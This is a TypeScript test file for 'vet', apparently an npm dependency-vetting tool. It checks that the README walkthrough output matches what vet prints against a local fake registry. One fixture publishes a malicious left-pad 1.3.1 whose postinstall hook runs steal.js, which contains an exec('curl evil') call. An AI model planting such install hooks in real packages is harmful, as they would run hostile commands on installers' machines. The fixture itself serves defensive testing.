/**
 * The README's walkthrough shows what vet really prints: every ```console block of the section
 * "Walkthrough: from `init` to `certify`" is run — its `$ vet …` commands, in order, on a fixture
 * project against a real npm registry on 127.0.0.1 — and what vet prints (stderr, then stdout)
 * must equal the block's text. A change to vet's output or to the README that makes them differ
 * fails here; `VET_README_PRINT=1` prints what vet printed, to paste into the README.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { packageLock, REPO_ROOT, runVet, tempProject, type TempProject } from './helpers/project.js';
import { startRegistryServer, type Published, type RegistryServer } from '@vet/test-support/registry-server';

interface Step {
  command: string[];
  expected: string;
}

/** The console blocks of the walkthrough, each as its commands and their expected output. */
export function walkthroughBlocks(readme: string): Step[][] {
  const start = readme.indexOf('\n## Walkthrough');
  const end = readme.indexOf('\n## ', start + 1);
  const section = readme.slice(start, end < 0 ? undefined : end);
  const blocks = [...section.matchAll(/```console\n([^]*?)```/g)].map((m) => m[1]!);
  return blocks.map((block) => {
    const steps: Step[] = [];
    for (const line of block.replace(/\n$/, '').split('\n')) {
      if (line.startsWith('$ ')) steps.push({ command: line.slice(2).split(' ').slice(1), expected: '' });
      else steps[steps.length - 1]!.expected += `${line}\n`;
    }
    return steps;
  });
}

const normalise = (text: string): string =>
  text
    .split('\n')
    .map((l) => l.trimEnd())
    .join('\n')
    .replace(/\n+$/, '\n');

let registry: RegistryServer;
const pub: Record<string, Published> = {};

beforeAll(async () => {
  registry = await startRegistryServer();
  pub['left-pad@1.3.0'] = registry.publish({
    name: 'left-pad',
    version: '1.3.0',
    npmUser: 'alice',
    time: '2024-01-10T10:00:00.000Z',
    files: { 'index.js': 'module.exports = function pad(s, n) {\n  return String(s).padStart(n);\n};\n' },
  });
  pub['left-pad@1.3.1'] = registry.publish({
    name: 'left-pad',
    version: '1.3.1',
    npmUser: 'mallory',
    time: '2024-03-01T10:00:00.000Z',
    scripts: { postinstall: 'node steal.js' },
    files: {
      'index.js': 'module.exports = function pad(s, n, c = " ") {\n  return String(s).padStart(n, c);\n};\n',
      'steal.js': 'require("child_process").exec("curl evil")\n',
    },
  });
  pub['tiny-test@2.0.0'] = registry.publish({
    name: 'tiny-test',
    version: '2.0.0',
    npmUser: 'alice',
    time: '2024-02-01T10:00:00.000Z',
    files: { 'index.js': 'module.exports = (name, fn) => fn();\n' },
  });
});
afterAll(() => registry.close());

function lockfile(leftPad: string): string {
  return packageLock({
    deps: { 'left-pad': '^1.3.0' },
    devDeps: { 'tiny-test': '^2.0.0' },
    packages: {
      'node_modules/left-pad': { version: leftPad, integrity: pub[`left-pad@${leftPad}`]!.integrity },
      'node_modules/tiny-test': { version: '2.0.0', dev: true, integrity: pub['tiny-test@2.0.0']!.integrity },
    },
  });
}

function fixture(leftPad: string): TempProject {
  return tempProject({
    'package.json': '{"name":"demo","version":"1.0.0"}\n',
    '.npmrc': `registry=${registry.url}\n`,
    'package-lock.json': lockfile(leftPad),
    '.home/.gitconfig': '[user]\n\tname = Alice\n\temail = alice@example.com\n',
  });
}

/** What happens to the project before each block (the README's prose between them). */
const SETUPS: Array<(p: () => TempProject, set: (p: TempProject) => void) => void> = [
  (_, set) => set(fixture('1.3.0')), // a project at left-pad 1.3.0: init, check
  (p) => p().write('package-lock.json', lockfile('1.3.1')), // an update brings left-pad 1.3.1
  () => {}, // the same, --locked
  () => {}, // certify the delta, check
  (_, set) => set(fixture('1.3.1')), // right after init with 1.3.1 exempted: suggest
];

describe('README walkthrough', () => {
  const readme = readFileSync(path.join(REPO_ROOT, 'README.md'), 'utf8');
  const blocks = walkthroughBlocks(readme);

  it('has one fixture step per console block', () => {
    expect(blocks.map((b) => b.map((s) => s.command[0]))).toEqual([
      ['init', 'check'],
      ['check'],
      ['check'],
      ['certify', 'check'],
      ['init', 'suggest'],
    ]);
    expect(SETUPS).toHaveLength(blocks.length);
  });

  it('prints what the README shows', async () => {
    let project: TempProject | undefined;
    const all: TempProject[] = [];
    const set = (p: TempProject) => {
      project = p;
      all.push(p);
    };
    const printed: string[] = [];
    try {
      for (const [i, block] of blocks.entries()) {
        SETUPS[i]!(() => project!, set);
        let text = '';
        for (const step of block) {
          const r = await runVet(step.command, { cwd: project!.dir });
          const actual = normalise(r.stderr + r.stdout);
          text += `$ vet ${step.command.join(' ')}\n${actual}`;
          if (process.env['VET_README_PRINT'] === undefined)
            expect(actual, `block ${i + 1}: $ vet ${step.command.join(' ')}`).toBe(normalise(step.expected));
        }
        printed.push(text);
      }
    } finally {
      for (const p of all) p.cleanup();
    }
    if (process.env['VET_README_PRINT'] !== undefined) console.log(printed.join('\n-----\n'));
  });
});
